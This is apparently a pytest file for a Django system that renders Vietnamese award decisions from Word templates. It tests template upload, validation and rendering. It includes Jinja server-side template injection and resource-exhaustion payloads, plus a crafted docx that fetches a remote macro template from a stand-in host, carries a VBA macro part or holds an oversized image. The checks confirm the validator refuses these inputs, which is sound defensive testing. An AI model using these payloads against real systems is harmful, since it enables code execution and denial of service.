"""Word: our template, a body's own, and templates that should do what they must not."""

import io
import time
import zipfile
from datetime import date
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from docx import Document
from docx.oxml.ns import qn
from hypothesis import given
from hypothesis import strategies as st

from tests.builders import ministry
from tests.decisions.houses import DAY, drafted, signed
from tests.documents.words import whole
from tests.honours.pages import signed_in
from tests.pages import text
from thidua.decisions.actions import end_template, take_template
from thidua.decisions.acts import TOLD
from thidua.decisions.models import Decision, Line, PaperKind
from thidua.decisions.papers.every import EVERY, NAMES
from thidua.decisions.papers.fields import FIELDS, LISTS, REQUIRED, TEXTS, WORDS
from thidua.decisions.papers.shipped import shipped
from thidua.decisions.papers.writing import Around, values_of
from thidua.documents.official.page import SAMPLE
from thidua.documents.word_templates.checking import faults_of, filled
from thidua.files.models import PaperTemplate
from thidua.people.models import Organisation, Phase
from thidua.people.refusals import Refused

WHOLE = "{{ so }}{{ trich_yeu }}{{ nguoi_ky }}{% for d in dieu %}{{ d.noi_dung }}{% endfor %}{% for d in danh_sach %}{{ d.ten }}{% endfor %}"


def template(*paragraphs, header=""):
    paper = Document()
    for one in paragraphs:
        paper.add_paragraph(one)
    if header:
        paper.sections[0].header.paragraphs[0].text = header
    target = io.BytesIO()
    paper.save(target)
    return target.getvalue()


def words(content):
    paper = Document(content)
    cells = [cell.text for table in paper.tables for row in table.rows for cell in row.cells]
    return "\n".join([*(one.text for one in paper.paragraphs), *cells])


def downloaded(client, address):
    answer = client.get(address)
    assert answer.status_code == 200
    return words(io.BytesIO(b"".join(answer.streaming_content)))


@pytest.mark.parametrize("kind", list(PaperKind))
def test_ours_is_without_fault(kind):
    assert faults_of(shipped(kind), WORDS[kind]) == []


@pytest.mark.django_db
def test_the_decision_reads_as_the_decree_wants_it(house):
    made = signed(house, bases="Căn cứ Luật <A> & B;", receivers="Như Điều 3;\nLưu: VT.")
    said = downloaded(signed_in(house["officer"]), f"/quyet-dinh/{made.pk}/van-ban/quyet-dinh/")
    for part in (
        "BỘ MẪU", "Số: 01/QĐ-BM", "Hà Nội, ngày 25 tháng 3 năm 2026", "QUYẾT ĐỊNH", "BỘ TRƯỞNG BỘ MẪU", "Căn cứ Luật <A> & B.",
        "Điều 1. Tặng danh hiệu “Chiến sĩ thi đua Bộ Mẫu” cho 01 cá nhân; Bằng khen của Bộ Mẫu cho 01 tập thể và 02 cá nhân "
        "(có danh sách kèm theo), đã có thành tích xuất sắc trong công tác theo thời gian "
        "ghi ở từng dòng của danh sách kèm theo.", "Danh hiệu “Chiến sĩ thi đua Bộ Mẫu” (2023–2025)", "Bằng khen của Bộ Mẫu (2024–2025)",
        "Điều 2. Tiền thưởng kèm theo: tổng số 21.060.000 đồng, mức của từng tập thể, cá nhân theo danh sách kèm theo, từ Quỹ",
        "chịu trách nhiệm thi hành Quyết định này./.", "- Như Điều 3;\n- Lưu: VT.", "BỘ TRƯỞNG", "Đoàn Minh Khuê",
        "(Kèm theo Quyết định số 01/QĐ-BM ngày 25 tháng 3 năm 2026 của Bộ trưởng Bộ Mẫu)", "Trần Thị Mẫu Bình", "3.510.000",
        "Tổng tiền thưởng: 21.060.000 đồng",
    ):  # fmt: skip
        assert part in said
    assert "{" not in said


@pytest.mark.django_db
@pytest.mark.parametrize(("kind", "lists"), [("quyet-dinh", False), ("thong-bao", False), ("to-trinh", True)])
def test_of_one_recipient_only_the_letter_has_a_list(house, kind, lists):
    made = signed(house, house["dossiers"][0])
    said = downloaded(signed_in(house["officer"]), f"/quyet-dinh/{made.pk}/van-ban/{kind}/")
    assert ("DANH SÁCH" in said, "danh sách kèm theo" in said) == (lists, lists)
    assert "Tặng Bằng khen của Bộ Mẫu cho ông (bà) Lê Mẫu An, Chuyên viên, Cục Một" in said
    assert "{" not in said


@pytest.mark.parametrize("kind", list(PaperKind))
def test_the_signature_never_stands_on_a_page_of_its_own(kind):
    values: dict[str, Any] = dict.fromkeys(TEXTS, "x") | {name: [] for name in LISTS} | {"noi_dung": ["y"]}
    values["dieu"] = [{"so": number, "noi_dung": "y"} for number in (1, 2, 3)]
    paper = Document(filled(shipped(kind, alone=True), values))
    before = [line for line in paper.element.body.iterchildren() if line.tag == qn("w:tbl")][1].getprevious()
    assert before.find(f".//{qn('w:keepNext')}") is not None
    assert len(paper.element.body.findall(f".//{qn('w:keepNext')}")) == 1


@pytest.mark.django_db
def test_a_template_of_our_own_by_the_pages(house):
    made = drafted(house)
    keeper = signed_in(house["officer"])
    sent = {"co-quan": "bo_mau", "loai": "quyet-dinh"}
    bad = SimpleUploadedFile("mau.docx", template(WHOLE, "{{ nguoi_kys }}"))
    answer = keeper.post("/quyet-dinh/mau/", sent | {"file": bad})
    assert answer.status_code == 400
    assert "Thân văn bản, đoạn “{{ nguoi_kys }}”: không có trường “nguoi_kys”. Có phải: nguoi_ky" in text(answer)
    assert not PaperTemplate.objects.exists()
    good = SimpleUploadedFile("mau.docx", template("MẪU RIÊNG", WHOLE))
    assert "dùng mẫu “mau.docx”" in text(keeper.post("/quyet-dinh/mau/", sent | {"file": good}, follow=True))
    assert "MẪU RIÊNG" in downloaded(keeper, f"/quyet-dinh/{made.pk}/van-ban/quyet-dinh/")
    own = PaperTemplate.objects.get()
    own_file: Any = keeper.get(f"/quyet-dinh/mau/{own.pk}/")
    assert b"".join(own_file.streaming_content) == bytes(own.content)
    keeper.post(f"/quyet-dinh/mau/{own.pk}/thoi/")
    assert "MẪU RIÊNG" not in downloaded(keeper, f"/quyet-dinh/{made.pk}/van-ban/quyet-dinh/")


@pytest.mark.django_db
def test_a_template_of_an_earlier_check_is_refused_when_used_with_what_to_mend(house):
    made, keeper = drafted(house), signed_in(house["officer"])
    old = take_template(
        template(WHOLE), name="cũ.docx", kind=PaperKind.DECISION, body=house["bo"], on=DAY, actor=house["officer"]
    )  # fmt: skip
    address = f"/quyet-dinh/{made.pk}/van-ban/quyet-dinh/"
    assert downloaded(keeper, address)
    PaperTemplate.objects.filter(pk=old.pk).update(content=template(WHOLE, "{{ so.__class__ }}"))
    answer = keeper.get(address)
    assert answer.headers["Location"] == f"/quyet-dinh/{made.pk}/"
    said = text(keeper.get(answer.headers["Location"]))
    assert "Mẫu Word “cũ.docx”, đưa vào ngày 25/03/2026, không qua được lần soát hôm nay." in said
    assert ("đoạn “{{ so.__class__ }}”" in said, "sửa rồi gửi lại" in said) == (True, True)
    end_template(old, on=DAY, actor=house["officer"])
    assert downloaded(keeper, address)


@pytest.mark.django_db
def test_a_later_template_takes_the_place_of_an_earlier_one(house):
    more = {"kind": PaperKind.DECISION, "body": house["bo"], "on": DAY, "actor": house["officer"]}
    take_template(template(WHOLE), name="một.docx", **more)
    two = take_template(template(WHOLE), name="hai.docx", **more)
    assert list(PaperTemplate.objects.filter(ended_on=None)) == [two]
    end_template(two, on=DAY, actor=house["officer"])
    with pytest.raises(Refused, match="thiếu trường bắt buộc"):
        take_template(template("{{ so }}"), name="ba.docx", **more)
    assert not PaperTemplate.objects.filter(ended_on=None).exists()


HOSTILE = {
    "{{ ''.__class__.__mro__ }}": "không",
    "{{ so.__class__ }}": "không có trường “so.__class__”",
    "{{ so['x'] }}": "không dùng “Getitem”",
    "{{ range(10**9) }}": "không dùng “Call”",
    "{{ 9 ** 9 ** 9 }}": "không dùng “Pow”",
    "{{ 'a' * 1000000000 }}": "không dùng “Mul”",
    "{{ so|attr('x') }}": "không dùng “Filter”",
    "{% set x = 1 %}": "không dùng “Assign”",
    "{% include 'x' %}": "không dùng “Include”",
    "{% import 'os' as os %}": "không dùng “Import”",
    "{% macro a() %}{% endmacro %}": "không dùng “Macro”",
    "{% for a in danh_sach %}{% for b in danh_sach %}x{% endfor %}{% endfor %}": "vòng lặp lồng nhau",
    "{% for a in danh_sach recursive %}{{ a.ten }}{% endfor %}": "vòng lặp lồng nhau hoặc có thêm lệnh",
    "{% for a in config %}{{ a }}{% endfor %}": "không có trường “config”",
    "{% for a in danh_sach %}{{ a.ngay_sinh }}{% endfor %}": "không có trường “a.ngay_sinh”",
    "{{ self }}": "không có trường “self”",
    "{{ loop.index }}": "không có trường",
    "{{ lipsum.__globals__ }}": "không có trường",
    "{% if so %}": "viết sai",
    "{{ so": "",
}


@pytest.mark.parametrize(("said", "fault"), HOSTILE.items(), ids=list(HOSTILE))
@pytest.mark.parametrize("where", ["thân", "đầu trang"])
def test_what_could_run_or_grow_is_refused_with_its_place(said, fault, where):
    content = template(WHOLE, said) if where == "thân" else template(WHOLE, header=said)
    found = faults_of(content, WORDS["quyet-dinh"])
    if not fault:  # half a tag is no tag: it stays as plain words, or is refused
        return
    assert found
    assert any(fault in one.said for one in found)
    assert all(one.where for one in found)


@given(st.lists(st.sampled_from([
    "{{", "}}", "{%", "%}", "so", "danh_sach", "d", ".", "__class__", "ten", "for", "in", "endfor", "if", "endif", "(", ")", "[", "]",
    "|", "*", "**", "9", "'a'", " ", "loop", "range", "self", "import", "set", "=", "~", "macro", "\u2028", "<w:p>", "{#", "#}",
]), max_size=25).map(" ".join))  # fmt: skip
def test_whatever_is_not_refused_renders_to_a_small_document(said):
    content = template(WHOLE, said)
    if faults_of(content, WORDS["quyet-dinh"]):
        return
    rows = [{"ten": f"N{at}"} for at in range(50)]
    values = dict.fromkeys(FIELDS, "x") | {"danh_sach": rows, "dieu": [{"so": 1, "noi_dung": "y"}]}
    begun = time.perf_counter()
    done = filled(content, values)
    assert len(done.getvalue()) < 200_000
    assert time.perf_counter() - begun < 20
    assert "<class" not in words(done)


@given(st.binary(max_size=400))
def test_any_bytes_are_answered_in_words(content):
    assert faults_of(content, WORDS["quyet-dinh"])[0].mend


def changed(content, name, value):
    target = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for one in old.namelist():
            new.writestr(one, value(old.read(one)) if one == name else old.read(one))
        if name not in old.namelist():
            new.writestr(name, value(b""))
    return target.getvalue()


def test_what_fetches_or_carries_code_is_refused():
    relation = b'<Relationship Id="x9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://xau.example/a.dotm" TargetMode="External"/></Relationships>'
    far = changed(
        template(WHOLE), "word/_rels/document.xml.rels", lambda old: old.replace(b"</Relationships>", relation)
    )
    assert "từ nơi khác trên mạng" in faults_of(far, WORDS["quyet-dinh"])[0].said
    assert (
        "macro"
        in faults_of(changed(template(WHOLE), "word/vbaProject.bin", lambda _: b"x"), WORDS["quyet-dinh"])[0].said
    )
    bomb = changed(template(WHOLE), "word/media/a.png", lambda _: b"\0" * 60_000_000)
    assert "quá lớn" in faults_of(bomb, WORDS["quyet-dinh"])[0].said


@pytest.mark.parametrize("kind", list(REQUIRED))
def test_what_is_missing_is_named(kind):
    (found,) = faults_of(template("Không có trường nào"), WORDS[kind])
    assert all(f"{{{{ {name} }}}}" in found.message for name in REQUIRED[kind])


@pytest.mark.django_db
def test_fourteen_hundred_lines_in_word():
    """The rows are made by hand; the book is asked what else each has."""
    body = Organisation(pk=1, key="bo")
    decision = Decision(
        body=body, title="Thử", symbol="QĐ-BM", number="1/QĐ", signed_on=date(2026, 3, 25), origin="cap_tren"
    )
    lines = [
        Line(position=at, award="bang_khen_cap_bo", person_id=at, name=f"Nguyễn Mẫu {at}", post="Chuyên viên", unit_name="Cục Mẫu",
             year=2025, code="2" * 16, bonus=3_510_000)
        for at in range(1, 1432)
    ]  # fmt: skip
    begun = time.perf_counter()
    done = filled(
        shipped("quyet-dinh"),
        values_of(decision, lines, "quyet-dinh", around=Around(body="Bộ Mẫu"), on=date(2026, 3, 25)),
    )
    took = time.perf_counter() - begun
    print(f"\n1.431 dòng: {took:.1f} s, {len(done.getvalue()) // 1000} kB")
    assert took < 60
    assert len(Document(done).tables[-1].rows) == 1432


@pytest.mark.django_db
def test_the_page_lists_every_paper_with_its_fields_and_tries_a_template_out(house):
    keeper = signed_in(house["officer"])
    page = text(keeper.get("/quyet-dinh/mau/?loai=bien-ban"))
    assert [name for name in NAMES.values() if name not in page] == []
    for part in (
        "Biên bản họp Hội đồng: các trường mẫu được dùng",
        "noi_dung → ung_vien → ket_qua",
        "Được đồng ý",
        "thanh_phan",
    ):
        assert part in page
    assert "{%tr for dong in tên %}" in page
    for kind, paper in EVERY.items():
        ours: Any = keeper.get(f"/quyet-dinh/mau/goc/{kind}/")
        content = b"".join(ours.streaming_content)
        assert content == paper.shipped(kind)
        sent = {"co-quan": "bo_mau", "loai": kind, "thu": "1", "file": SimpleUploadedFile("a.docx", content)}
        tried: Any = keeper.post("/quyet-dinh/mau/", sent)
        said = whole(Document(io.BytesIO(b"".join(tried.streaming_content))))
        assert (SAMPLE in said, "{" in said, paper.words.examples["loai"] in said) == (True, False, True)
    assert not PaperTemplate.objects.exists()


@pytest.mark.django_db
def test_a_template_of_a_room_below_is_taken_in_and_told_in_the_record(house):
    keeper = signed_in(house["officer"])
    bad: dict[str, Any] = {
        "co-quan": "bo_mau",
        "loai": "phieu-bau",
        "file": SimpleUploadedFile("a.docx", template("{{ nguoi_bau }}")),
    }
    for more in ({"thu": "1"}, {}):
        bad["file"].seek(0)
        answer = keeper.post("/quyet-dinh/mau/", bad | more)
        assert answer.status_code == 400
        assert "không có trường “nguoi_bau”" in text(answer)
    good = bad | {"file": SimpleUploadedFile("phiếu.docx", EVERY["phieu-bau"].shipped("phieu-bau"))}
    answer = keeper.post("/quyet-dinh/mau/", good, follow=True)
    assert "Từ nay phiếu bầu dùng mẫu “phiếu.docx”." in text(answer)
    assert [(one.kind, one.name) for one in PaperTemplate.objects.all()] == [("phieu-bau", "phiếu.docx")]
    assert TOLD.values["kind"]["phieu-bau"] == "Phiếu bầu"


@pytest.mark.django_db
def test_the_decision_of_a_body_without_a_template_uses_that_of_the_body_above(house):
    made = drafted(house)
    above = ministry("tren_bo", "Cơ quan trên")
    Phase.objects.filter(organisation=house["bo"]).update(parent=above)
    PaperTemplate.objects.create(
        body=above,
        kind="quyet-dinh",
        name="a.docx",
        content=template("MẪU CẤP TRÊN", WHOLE),
        sha256="0" * 64,
        added_by="Ai",
        added_on=DAY,
    )
    assert "MẪU CẤP TRÊN" in downloaded(signed_in(house["officer"]), f"/quyet-dinh/{made.pk}/van-ban/quyet-dinh/")
    page = text(signed_in(house["officer"]).get("/quyet-dinh/mau/"))
    assert "a.docx mẫu của cấp trên, Cơ quan trên: dùng khi cơ quan chưa có mẫu riêng" in page
